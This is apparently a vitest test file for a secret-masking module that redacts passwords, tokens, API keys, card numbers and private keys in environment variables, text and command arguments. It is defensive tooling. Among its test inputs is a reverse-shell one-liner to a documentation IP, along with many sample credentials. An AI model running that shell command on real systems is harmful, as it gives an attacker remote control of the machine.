import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  secretInArgument,
  secretInText,
  secretInVariable,
  secretsInArguments,
} from '../../../shared/secrets/looks-secret.ts';
import type { SecretPart } from '../../../shared/secrets/looks-secret.ts';

/** The text as an examiner sees it before revealing. */
const mask = (text: string, part: SecretPart | null): string =>
  part ? `${text.slice(0, part.start)}[${part.kind}]${text.slice(part.start + part.length)}` : text;
const variable = (text: string): string => mask(text, secretInVariable(text));
const inText = (text: string): string => mask(text, secretInText(text));
const argv = (...words: string[]): string =>
  secretsInArguments(words)
    .map((part, i) => mask(words[i]!, part))
    .join(' ');

/** Joined here so that no whole token stands in this file. */
const form = (...parts: string[]): string => parts.join('');

describe('variables', () => {
  it.each([
    ['DB_PASSWORD=Tr0ub4dor-and-3-lab-only', 'DB_PASSWORD=[password]'],
    ['JWT_SECRET=lab-jwt-signing-secret-2026', 'JWT_SECRET=[secret]'],
    ['AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', 'AWS_SECRET_ACCESS_KEY=[access key]'],
    ['AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE', 'AWS_ACCESS_KEY_ID=[AWS access key]'],
    [
      'SMTP_URL=smtp://mailer:hunter2-lab@mail.example.com:587',
      'SMTP_URL=smtp://mailer:[password]@mail.example.com:587',
    ],
    ['PGPASSWORD=two words', 'PGPASSWORD=[password]'],
    ['MYSQL_PWD=hunter2', 'MYSQL_PWD=[password]'],
    ['SMTP_PASS=x1y2', 'SMTP_PASS=[password]'],
    ['clientSecret=abc', 'clientSecret=[secret]'],
    ['SECRET_KEY_BASE=0123abcd', 'SECRET_KEY_BASE=[secret key]'],
    ['API_KEY=abc=def', 'API_KEY=[API key]'],
    ['GITHUB_TOKEN=abc', 'GITHUB_TOKEN=[token]'],
    ['REGISTRY_CREDENTIALS=a:b', 'REGISTRY_CREDENTIALS=[credentials]'],
    ['SESSION_KEY=3f2a9c1e7b8d4f60a1b2', 'SESSION_KEY=[session key]'],
    ['COOKIE=k7GhT2mQx9ZpL4vR8sWd1n', 'COOKIE=[cookie value]'],
    ['DB_DSN=app:s3cret@tcp(db:3306)/shop', 'DB_DSN=app:[password]@tcp(db:3306)/shop'],
    [
      'SENTRY_DSN=https://9a1b7c3d5e2f4a6b8c0d1e2f3a4b5c6d@example.com/2',
      'SENTRY_DSN=https://[token]@example.com/2',
    ],
    [
      'CONN=Server=db;User Id=app;Password=p@ss;Encrypt=true',
      'CONN=Server=db;User Id=app;Password=[password];Encrypt=true',
    ],
    [
      'CONFIG={"user":"app","password": "a b c","port":1}',
      'CONFIG={"user":"app","password": "[password]","port":1}',
    ],
  ])('%s', (text, masked) => {
    expect(variable(text)).toBe(masked);
  });

  it.each([
    'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
    'HOME=/root',
    'LANG=C.UTF-8',
    'HOSTNAME=shop-7d9c5b6f4-x2v8q',
    'container=podman',
    'PWD=/srv/app',
    'OLDPWD=/srv',
    'APP_PWD=/srv/app',
    'DB_USER=acme',
    'DB_PASSWORD=',
    'DB_PASSWORD_FILE=/run/secrets/db',
    'DB_PASSWORD=/run/secrets/db',
    'DB_PASSWORD=${VAULT_PASSWORD}',
    'MYSQL_ALLOW_EMPTY_PASSWORD=yes',
    'TOKENIZERS_PARALLELISM=false',
    'MAX_TOKENS=4096',
    'OPENAI_MAX_TOKENS=4096',
    'GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305',
    'PYTHON_SHA256=8d3ed8ec5c88c1c95f5e558612a725450d2452813ddad5e58fdb1a53b1209b78',
    'SSH_AUTH_SOCK=/tmp/ssh-XXXXq3T9aB/agent.4711',
    'DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1000/bus',
    'KUBERNETES_SERVICE_HOST=10.96.0.1',
    'KUBERNETES_PORT_443_TCP=tcp://10.96.0.1:443',
    'POD_UID=6f0f3c52-7f6e-4a40-9d0b-5a1f2c3d4e5f',
    'STARTED_AT=1795503178153690020',
    'MONKEY=banana',
    'CACHE_KEY=user-page',
    'GIT_AUTHOR_NAME=carol',
    'SITE=https://carol@example.com/',
    'TWO=a=b=c',
    'no assignment',
  ])('%s stays as it is', (text) => {
    expect(variable(text)).toBe(text);
  });

  it('of the features checkpoint and of the shop are masked exactly where a secret stands', () => {
    const truths = ['containerd-web-benign', 'features', 'hostile-strings', 'web-compromised'];
    const masked = new Set<string>();
    for (const name of truths) {
      const path = new URL(`../../fixtures/checkpoints/truth/${name}.json`, import.meta.url);
      const truth = JSON.parse(readFileSync(path, 'utf8')) as { processes: { environ?: string[] }[] };
      for (const text of truth.processes.flatMap((process) => process.environ ?? [])) {
        if (secretInVariable(text)) masked.add(text.slice(0, text.indexOf('=')));
      }
    }
    expect([...masked].sort()).toEqual([
      'AWS_ACCESS_KEY_ID',
      'AWS_SECRET_ACCESS_KEY',
      'DB_PASSWORD',
      'JWT_SECRET',
      'SMTP_URL',
    ]);
  });
});

describe('forms', () => {
  const jwt =
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U';
  it.each([
    [`GET / token ${jwt} end`, 'GET / token [JWT] end'],
    [form('gh', 'p_', 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'), '[GitHub token]'],
    [form('glpat', '-', 'a1B2c3D4e5F6g7H8i9J0'), '[GitLab token]'],
    [form('xox', 'b-', '1234567890-abcdefghij'), '[Slack token]'],
    [form('sk', '_live_', '4eC39HqLyjWDarjtT1zdp7dc'), '[Stripe key]'],
    [form('AI', 'za', 'SyA1234567890abcdefghijklmnopqrstuv'), '[Google API key]'],
    ['card 4111 1111 1111 1111, exp', 'card [card number], exp'],
    ['5555-5555-5555-4444', '[card number]'],
    ['378282246310005', '[card number]'],
    ['a -----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY----- b', 'a [private key] b'],
    ['-----BEGIN OPENSSH PRIVATE KEY-----\ncut', '[SSH private key]'],
    ['postgres://u:p@h/db and redis://:q@r', 'postgres://u:[password]@r'],
    ["mysql --password='a b' -e 1", "mysql --password='[password]' -e 1"],
    ['curl -H "Authorization: Bearer 0123456789abcdef0123" x', 'curl -H "Authorization: Bearer [token]" x'],
    ['export API_TOKEN=abc; run', 'export API_TOKEN=[token]; run'],
    ['password: hunter2', 'password: [password]'],
    ['["SET","db_password","velvet"]', '["SET","db_password","[password]"]'],
    ['["a","b","c","velvet_token","summer","x"]', '["a","b","c","velvet_token","[token]","x"]'],
    [
      '["admin","carol","db_secret","mossy","north","Zoe"]',
      '["admin","carol","db_secret","[secret]","north","Zoe"]',
    ],
    [
      '["chown","clone","db_secret","m1-lab","mkdir","mount"]',
      '["chown","clone","db_secret","[secret]","mkdir","mount"]',
    ],
  ])('%s', (text, masked) => {
    expect(inText(text)).toBe(masked);
  });

  it.each([
    '-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----',
    '4111 1111 1111 1112',
    '4111.1111.1111.1111',
    'x4111111111111111',
    '0000000000000000',
    'AKIAIOSFODNN7EXAMPL',
    'a.b.c eyJ.eyJ.eyJ',
    'https://example.com:8080/a@b',
    'python3 /app/server.py',
    'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1',
    'the password is kept elsewhere',
    // Of a profile of seccomp.
    '{"names":["madvise","memfd_create","memfd_secret","mincore","mkdir","mkdirat"],"action":"SCMP_ACT_ALLOW"}',
    "['memfd_create', 'memfd_secret', 'mincore', 'mkdir', 'mkdirat', 'mknod']",
    '["memfd_secret","mincore","mkdir","mkdirat","mknod","mlock"]',
  ])('%s stays as it is', (text) => {
    expect(inText(text)).toBe(text);
  });
});

describe('arguments', () => {
  it('mask values of options by name, after = and in the next argument', () => {
    expect(argv('x', '--password=a b', '--token', 'abc', '--api-key', 'k', '-password', 'p')).toBe(
      'x --password=[password] --token [token] --api-key [API key] -password [password]',
    );
    expect(argv('x', '--token', '--verbose', '--password-stdin', 'y')).toBe(
      'x --token --verbose --password-stdin y',
    );
    expect(argv('x', '--max-tokens', '100', '--no-password', 'db')).toBe(
      'x --max-tokens 100 --no-password db',
    );
    expect(argv('env', 'DB_PASSWORD=x y', 'sh')).toBe('env DB_PASSWORD=[password] sh');
  });

  it('mask what short options of known programs take, and only theirs', () => {
    expect(argv('/usr/bin/mysql', '-u', 'root', '-phunter2', 'shop')).toBe(
      '/usr/bin/mysql -u root -p[password] shop',
    );
    expect(argv('mysql', '-p', 'shop')).toBe('mysql -p shop');
    expect(argv('sshpass', '-p', 'hunter2', 'ssh', 'h')).toBe('sshpass -p [password] ssh h');
    expect(argv('curl', '-u', 'carol:pw', 'https://x')).toBe('curl -u carol:[password] https://x');
    expect(argv('docker', 'run', '-p', '80:80')).toBe('docker run -p 80:80');
    expect(argv('docker', 'login', '-p', 'pw')).toBe('docker login -p [password]');
    expect(argv('mkdir', '-pfoo')).toBe('mkdir -pfoo');
    expect(argv('openssl', 'enc', '-k', 'pw')).toBe('openssl enc -k [password]');
    expect(argv('openssl', 's_server', '-key', 'k.pem')).toBe('openssl s_server -key k.pem');
    expect(argv('ldapsearch', '-H', 'ldap://127.0.0.1', '-w', 'pw')).toBe(
      'ldapsearch -H ldap://127.0.0.1 -w [password]',
    );
    expect(argv('redis-cli', '-a', 'pw', 'GET', 'k')).toBe('redis-cli -a [password] GET k');
  });

  it('have values beside their names in program text', () => {
    const code = (text: string): string => argv('x', '-e', text).slice('x -e '.length);
    expect(code("f('user','lab','Password','it''s deep')")).toBe("f('user','lab','Password','[password]')");
    expect(code("g('user','lab','pass','u=[0.1;0.2]')")).toBe("g('user','lab','pass','[password]')");
    expect(code('["psp"]["secret"] "ate my homework"')).toBe('["psp"]["secret"] "[secret]"');
    expect(code('(let ((db-password "(x) y!")) z)')).toBe('(let ((db-password "[password]")) z)');
    expect(code('(setq smtp-pass "a b")')).toBe('(setq smtp-pass "[password]")');
    expect(code('(print user "a b") ["psp"]["name"] "a b"')).toBe('(print user "a b") ["psp"]["name"] "a b"');
    expect(code('%{host: "h", secret: ~s|a"b"c|}')).toBe('%{host: "h", secret: ~s|[secret]|}');
  });

  it('have sections of .NET before their names, and blanks behind a backslash', () => {
    expect(argv('app', '--Jwt:Key=if(x)y;', '--Db:Password', 'a b', '--Db:Host=db')).toBe(
      'app --Jwt:Key=[jwt key] --Db:Password [password] --Db:Host=db',
    );
    expect(argv('sh', '-c', 'gpg --passphrase no\\ plastic\\ here -c f')).toBe(
      'sh -c gpg --passphrase [passphrase] -c f',
    );
  });

  it('mask values of headers that are not known to be harmless, and of -u and -p together', () => {
    expect(argv('curl', '-H', 'X-Ticket: T9928.c30cb', '-H', 'Accept: text/html5')).toBe(
      'curl -H X-Ticket: [token] -H Accept: text/html5',
    );
    expect(argv('curl', '-H', 'X-Mode: verbose-output')).toBe('curl -H X-Mode: verbose-output');
    expect(argv('tool', '-u', 'bob', '-p', 'sesame')).toBe('tool -u bob -p [password]');
    expect(argv('tool', '-u', 'bob', '-p', '8080:80')).toBe('tool -u bob -p 8080:80');
    expect(argv('sudo', '-u', 'bob', 'mkdir', '-p', 'data')).toBe('sudo -u bob mkdir -p data');
    expect(argv('mysql', '-u', 'root', '-p', 'shop')).toBe('mysql -u root -p shop');
  });

  it('can be judged one by one', () => {
    expect(mask('abc', secretInArgument('abc', '--token'))).toBe('[token]');
    expect(mask('abc', secretInArgument('abc', '--name'))).toBe('abc');
  });
});

describe('any text', () => {
  const piece = fc.constantFrom(
    'password',
    '=',
    ':',
    '://',
    '@',
    '"',
    "'",
    ' ',
    '-',
    '--token',
    'eyJ',
    '.',
    '4111',
    '\u{1f600}',
    'AKIA',
    '-----BEGIN ',
    'PRIVATE KEY-----',
    '=x',
  );

  it('gives a part inside the text, never an empty one', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 16 }), (pieces) => {
        const text = pieces.join('');
        for (const part of [secretInText(text), secretInVariable(text), secretInArgument(text, '--token')]) {
          if (!part) continue;
          expect(part.length).toBeGreaterThan(0);
          expect(part.start).toBeGreaterThanOrEqual(0);
          expect(part.start + part.length).toBeLessThanOrEqual(text.length);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('of many bytes made to be scanned again and again ends', () => {
    for (const unit of [
      'eyJ',
      'eyJaaaaaaaaaaa.',
      '://',
      '-----BEGIN ',
      '4',
      '4 ',
      'password=',
      'password:"',
      "pw='",
      'AKIA',
      'a:b@',
      '"kty',
      '/MIIEabIBAAKC',
      '-----END RSA PRIVATE KEY-----\nMIIEabcdef',
      '3082000102010030',
      ' PSK ',
      'user a on >',
      'backup codes: 1234 ',
      'echo a | ',
      'psexec.py a:',
      'INSERT INTO a (password) VALUES (',
      "('password',",
      "'password','",
      'COPY a (password) FROM stdin;\n',
      'DE89 3704 ',
      'chpasswd:\n a:',
      'Pwd={',
      '[1,2,3,4',
      'user=a password=b ',
      '4111 1111 1111 ',
      '-----BEGIN%20PRIVATE%20KEY-----',
      'identified by ',
      ':\\/\\/a:b@',
      'token-abcde:',
      '$A$005$',
      '::a:0123456789abcdef:',
      'kind: Secret\n- kind: Secret\n',
      '<name>password</name><value>',
      'azurewebsites.net/',
      'AQEaaaa=-',
      'htpasswd -b ',
      'contrase\u00f1a= ',
      'пароль: ',
      '\u5bc6\u7801\uff1a',
      'password -> ',
      'password = """\n',
      'password: |\n  ',
      'variable "pw" { default = ',
      'INSERT INTO users VALUES (',
      '| password |\n|--|\n',
      'mnemonic abandon ability ',
      'session:sessions:',
      'credentials: admin / ',
      'password changed from a to ',
      'password is the new ',
      'datadog key ',
      'secret token key ',
      '$office$',
      'mysql\0-p',
      '"params":["',
    ]) {
      const text = unit.repeat(300_000 / unit.length);
      const part = secretInText(text);
      expect(part === null || part.start + part.length <= text.length).toBe(true);
    }
  });
});
